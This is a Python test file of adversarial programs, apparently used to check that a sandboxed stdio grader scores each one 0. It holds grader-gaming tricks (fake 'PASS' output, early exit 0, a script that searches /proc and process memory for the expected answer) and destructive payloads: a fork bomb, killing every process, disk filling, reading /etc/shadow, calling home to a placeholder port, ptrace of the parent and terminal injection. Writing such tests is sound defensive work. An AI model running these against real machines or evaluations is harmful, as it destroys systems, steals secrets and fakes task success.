"""Programs that try to pass a stdio test without solving it, or to harm the machine. Each must score 0.

The task: read one line, print ``answer(line)`` (below). What a program cannot know, it would have to steal: the
expected text begins with a mark that the thieves search for. ``@CANARY@`` and ``@PORT@`` are a file and a
listening port outside, which must stay untouched.
"""

import hashlib

MARK = "EXPECTED-"


def answer(line: str) -> str:
    """What the task asks for: unguessable, but an honest program can compute it."""
    return MARK + hashlib.md5(line.encode()).hexdigest()


HONEST = """
import hashlib
right = "EXPECTED" + "-" + hashlib.md5(input().encode()).hexdigest()
"""

# Prints everything in reach that looks like an expected answer.
THIEF = r"""
import glob, os, re, sys
pattern = re.compile(rb"EXPECTED-[0-9a-f]{32}")
found = []
def search(data):
    found.extend(pattern.findall(data))
places = ["/proc/*/environ", "/proc/*/cmdline", "/proc/*/fd/*", "/proc/*/fdinfo/*", "/proc/*/maps", "/work/**", "/tmp/**",
          "/packages/**", "/proc/*/root/work/*", "/proc/*/cwd/*", "/dev/shm/*", "/home/**", "/root/**", "/etc/**", "/run/**"]
for place in places:
    for path in glob.glob(place, recursive=True):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            search(os.read(fd, 1 << 22))
        except OSError:
            pass
        os.close(fd)
for line in open("/proc/self/maps"):
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    try:
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(start)
            search(memory.read(end - start))
    except (OSError, ValueError, OverflowError):
        pass
print(*sorted(set(text.decode() for text in found)), sep="\n")
"""

OUTPUT_ATTACKS = {
    "exit with status 0": "import sys; sys.exit(0)",
    "raise SystemExit": "raise SystemExit",
    "os._exit with status 0": "import os; os._exit(0)",
    "print nothing": "pass",
    "claim to have passed": "print('PASS'); print('OK'); print('{\"passed\": true, \"score\": 1.0}')",
    "right, then more": HONEST + "print(right); print('more')",
    "right, but not first": HONEST + "print('first'); print(right)",
    "right, but cut off": HONEST + "print(right[:-1])",
    "right, but in another case": HONEST + "print(right.lower())",
    "right a hundred times": HONEST + "print(right * 100)",
    "right, then exit 1": HONEST + "print(right); import sys; sys.exit(1)",
    "right, then killed": HONEST + "print(right, flush=True); import os; os.kill(os.getpid(), 9)",
    "right, then a segfault": HONEST + "print(right, flush=True); import ctypes; ctypes.string_at(0)",
    "right, then hang": HONEST + "print(right, flush=True)\nwhile True: pass",
    "right, then hang in atexit": HONEST
    + "import atexit, time\natexit.register(time.sleep, 99)\nprint(right, flush=True)",
    "right, then hang in a thread": HONEST
    + "import threading, time\nthreading.Thread(target=time.sleep, args=(99,)).start()\nprint(right, flush=True)",
    "right, then a flood": HONEST + "print(right, flush=True)\nwhile True: print('x' * 100000)",
    "flood of errors": "import sys\nwhile True: sys.stderr.write('x' * 100000)",
    "right, but not UTF-8": HONEST + "import sys; sys.stdout.buffer.write(b'\\xff' + right.encode())",
    "search everywhere for the answer": THIEF,
    "read stdin to the end for the answer": "import sys; data = sys.stdin.read(); print(data); print(input())",
    "ignore SIGTERM and hang": "import signal\nfor n in (1, 2, 15, 14): signal.signal(n, signal.SIG_IGN)\nwhile True: pass",
    "sleep": "import time; time.sleep(99)",
    "catch everything": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "more CPU than time": "import hashlib, threading\n"
    "for _ in range(8): threading.Thread(target=hashlib.pbkdf2_hmac, args=('sha256', b'', b'', 10**9)).start()",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "thread bomb": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
    "daemon that holds the pipe": "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
    "    if os.fork() == 0: time.sleep(99)\n    os._exit(0)\nos.wait()",
    "daemon that answers later": HONEST
    + "import os, time\nif os.fork() == 0:\n    os.setsid(); time.sleep(0.3)\n"
    "    print(right, flush=True)\nos._exit(0)",
    "memory at once": "x = bytearray(10 ** 10)",
    "memory in steps": "x = []\nwhile True: x.append(bytearray(b'1') * (1 << 20))",
    "memory of many processes": "import os, time\nfor _ in range(10):\n    if os.fork() == 0:\n"
    "        x = b'1' * (100 << 20); time.sleep(99)\ntime.sleep(99)",
    "fill the disk": "for n in range(100):\n    try:\n        with open(f'/tmp/{n}', 'wb') as file:\n"
    "            for _ in range(1000): file.write(b'1' * (1 << 20))\n    except OSError: pass",
    "endless recursion": "import sys; sys.setrecursionlimit(10 ** 9)\nf = lambda: f()\nf()",
    "deep C recursion": "x = []\nfor _ in range(10 ** 6): x = [x]\nrepr(x)\nimport pickle; pickle.dumps(x)",
    "kill the parent": "import os\nos.kill(os.getppid(), 9); os.kill(1, 9); os.kill(-1, 9)",
    "kill every process": "import os\nfor pid in range(2, 40000):\n    try: os.kill(pid, 9)\n    except OSError: pass",
    "write to the canary": "import os\nos.chmod('@CANARY@', 0o777)\nopen('@CANARY@', 'w').write('gone')",
    "write to the canary through /proc": "open('/proc/1/root@CANARY@', 'w').write('gone')",
    "overwrite the interpreter": "import sys\nopen(sys.executable, 'wb').write(b''); open('/work/main.py', 'w').write('')",
    "read the shadow file": "print(open('/etc/shadow').read())",
    "call home": "import socket; s = socket.create_connection(('127.0.0.1', @PORT@), timeout=1); s.send(b'hello')",
    "call home by another name": "import socket\nfor host in ('localhost', '0.0.0.0', '::1', '10.0.2.2', '172.17.0.1'):\n"
    "    try: socket.create_connection((host, @PORT@), timeout=0.1).send(b'hello')\n    except OSError: pass",
    "become root": "import os\nos.setuid(0)",
    "trace the parent": "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
    "assert libc.ptrace(16, os.getppid(), 0, 0) == 0 or libc.ptrace(16, 1, 0, 0) == 0\nprint(open('/proc/1/mem', 'rb').read(9))",
    "a namespace of its own": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.unshare(0x10000000) == 0\n"
    "libc.mount(b'/', b'/tmp', None, 4096, None)\nopen('/tmp@CANARY@', 'w').write('gone')",
    "type into the terminal": "import fcntl, termios\nfor c in b'echo\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))",
    "write to inherited descriptors": "import os\nfor fd in range(3, 256):\n    for text in (b'nan', b'inf', b'1.5', b'1'):\n"
    "        try: os.write(fd, text)\n        except OSError: pass",
    "end bubblewrap's report early": "import os\nos.closerange(0, 256)\nos._exit(0)",
    "a program with a null": "print(1)\0",
    "a program that is not Unicode": "print('\ud800')",
}
